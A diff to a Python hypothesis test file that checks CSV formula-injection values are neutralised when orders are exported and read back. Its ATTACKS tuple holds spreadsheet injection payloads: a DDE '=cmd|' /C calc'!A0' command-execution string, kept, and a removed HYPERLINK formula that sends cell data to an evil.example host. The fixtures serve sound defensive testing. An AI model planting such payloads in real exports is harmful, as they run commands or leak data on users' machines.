@@ -19,19 +19,7 @@ from boxwright.tabular import neutral, restored
 SIGNS = "=+-@\t\r\n＝＋－＠"
 TEXTS = st.text(st.sampled_from([*SIGNS, "'", '"', ",", ";", " ", "a", "1"]), max_size=8) | st.text(max_size=20)
 
-ATTACKS = (
-    "=cmd|' /C calc'!A0",
-    '=HYPERLINK("http://evil.example/?"&A1,"open")',
-    "+1+1",
-    "-2+3",
-    "@SUM(A1:A9)",
-    "'=1+1",
-    "''@a",
-    "-5",
-    "＝1+1",
-    "'quoted'",
-    "O'Neill",
-)
+ATTACKS = ("=cmd|' /C calc'!A0", "-5", "''@a", "＝1+1", "'quoted'", "O'Neill")
 
 
 @settings(max_examples=50)
@@ -68,7 +56,7 @@ def test_orders_of_such_texts_are_read_as_they_were(tmp_path, text):
         cells = [cell for row in csv.reader(file) for cell in row]
     assert not any(cell.startswith(tuple(SIGNS)) for cell in cells)
     assert list(read_orders(path)) == [order]
-    assert [each for batch in order_batches(path) for each in batch.readings()] == [order]
+    assert [reading for batch in order_batches(path) for reading in batch.readings()] == [order]
 
 
 def test_rejected_orders_do_not_become_formulas(tmp_path):
